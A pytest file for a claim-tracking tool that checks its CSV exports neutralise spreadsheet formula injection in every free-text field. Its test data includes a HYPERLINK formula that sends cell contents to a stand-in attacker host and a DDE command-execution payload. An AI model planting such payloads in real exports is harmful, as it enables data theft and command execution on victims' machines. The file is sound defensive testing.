"""No exported cell is a live formula, whichever field the hostile text hides in.

``tests/core/test_csv.py`` covers the claim's own text, notes and tags; here every free-text
field of both reports carries a formula: speaker and outlet names, source title and URL,
descriptor, quote and its anchor context, tags, and the note of a link.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from claimtracker import services
from claimtracker.cli import main
from claimtracker.csvio import REPORTS, export_csv, is_dangerous
from claimtracker.schemas import ClaimCreate, LinkCreate, SourceCreate
from claimtracker.store import Store

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\u00a0=1",
    "\u3000=1",
    "＝1",
    "'=already quoted",
]


def _hostile_database(store: Store) -> None:
    with store.write() as session:
        for number, formula in enumerate(FORMULAS):
            outlet = services.resolve_actor(session=session, name=f"{formula} outlet {number}")
            speaker = services.resolve_actor(session=session, name=f"{formula} speaker {number}")
            source, _ = services.create_source(
                session=session,
                source_in=SourceCreate(
                    text=f"Before. {formula} said the speaker. After {number}.",
                    title=f"{formula} title",
                    url=f"{formula}/url/{number}",
                    byline=formula,
                    outlet_id=outlet.id,
                ),
            )
            claim = services.create_claim(
                session=session,
                claim_in=ClaimCreate(
                    text=f"{formula} claim {number}",
                    quote=formula,
                    source_id=source.id,
                    speaker_id=speaker.id,
                    descriptor=formula,
                    notes=formula,
                    tags=[f"{formula} tag"],
                ),
            )
            counter = services.create_claim(
                session=session,
                claim_in=ClaimCreate(text=f"{formula} counter {number}", notes=formula),
            )
            assert claim.id is not None and counter.id is not None
            services.link_claims(
                session=session,
                link_in=LinkCreate(
                    claim_a_id=claim.id, claim_b_id=counter.id, relation="denies", note=formula
                ),
            )


@pytest.mark.parametrize("report", sorted(REPORTS))
def test_no_cell_of_any_report_is_a_formula(store: Store, tmp_path: Path, report: str) -> None:
    _hostile_database(store)
    out = tmp_path / f"{report}.csv"
    with store.raw() as connection:
        export_csv(connection, out, report=report)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) > len(FORMULAS)
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [cell for cell in cells if is_dangerous(cell)]
    assert dangerous == []
    for formula in FORMULAS[:5]:  # the text is all there, only made inert
        assert any(cell == "'" + formula for cell in cells)


def test_the_command_line_export_to_standard_output_is_inert(
    store: Store, db_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    _hostile_database(store)
    assert main(["export", "csv", "--report", "pairs", "--db", str(db_path)]) == 0
    text = capsysbinary.readouterr().out.decode("utf-8-sig")
    cells = [cell for row in list(csv.reader(text.splitlines()))[1:] for cell in row]
    assert cells and not [cell for cell in cells if is_dangerous(cell)]
